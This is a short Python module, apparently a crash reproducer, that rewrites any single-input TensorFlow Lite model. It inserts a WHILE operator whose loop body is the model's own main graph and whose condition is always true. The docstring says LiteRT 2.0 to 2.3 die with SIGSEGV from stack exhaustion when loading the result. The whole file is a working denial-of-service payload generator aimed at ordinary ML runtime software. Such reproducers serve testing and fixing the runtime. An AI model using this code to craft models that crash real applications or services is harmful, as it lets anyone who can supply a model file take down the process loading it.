"""A well-formed model that takes down the process that loads it: a loop whose body is the model itself.

LiteRT 2.0 to 2.3 end by SIGSEGV, as the stack is used up while the tensors are laid out. A release that refuses it is as good for the example.
"""

from __future__ import annotations

import copy

import flatbuffers
from ai_edge_litert import schema_py_generated as schema

_IDENTIFIER = b"TFL3"


def crashing(content: bytes) -> bytes:
    """A model with such a loop before its first operator.

    Args:
        content: Any .tflite with one input.
    """
    model = schema.ModelT.InitFromPackedBuf(content)
    graph = model.subgraphs[0]
    picture = graph.inputs[0]
    graph.tensors.append(copy.copy(graph.tensors[picture]))
    looped = len(graph.tensors) - 1
    for operator in graph.operators:
        operator.inputs = [looped if tensor == picture else tensor for tensor in operator.inputs]
    loop = schema.OperatorT()
    loop.opcodeIndex = len(model.operatorCodes)
    loop.inputs, loop.outputs = [picture], [looped]
    loop.builtinOptionsType = schema.BuiltinOptions.WhileOptions
    loop.builtinOptions = schema.WhileOptionsT()
    loop.builtinOptions.condSubgraphIndex, loop.builtinOptions.bodySubgraphIndex = len(model.subgraphs), 0
    graph.operators.insert(0, loop)
    code = schema.OperatorCodeT()
    code.builtinCode = code.deprecatedBuiltinCode = schema.BuiltinOperator.WHILE
    code.version = 1
    model.operatorCodes.append(code)
    model.subgraphs.append(_yes(model, graph.tensors[picture]))
    builder = flatbuffers.Builder(len(content))
    builder.Finish(model.Pack(builder), _IDENTIFIER)
    return bytes(builder.Output())


def _yes(model: schema.ModelT, picture: schema.TensorT) -> schema.SubGraphT:
    """A condition that always holds."""
    buffer = schema.BufferT()
    buffer.data = [1]
    model.buffers.append(buffer)
    yes = schema.TensorT()
    yes.shape, yes.type, yes.buffer, yes.name = [1], schema.TensorType.BOOL, len(model.buffers) - 1, "yes"
    graph = schema.SubGraphT()
    graph.tensors, graph.inputs, graph.outputs, graph.operators = [copy.copy(picture), yes], [0], [1], []
    return graph
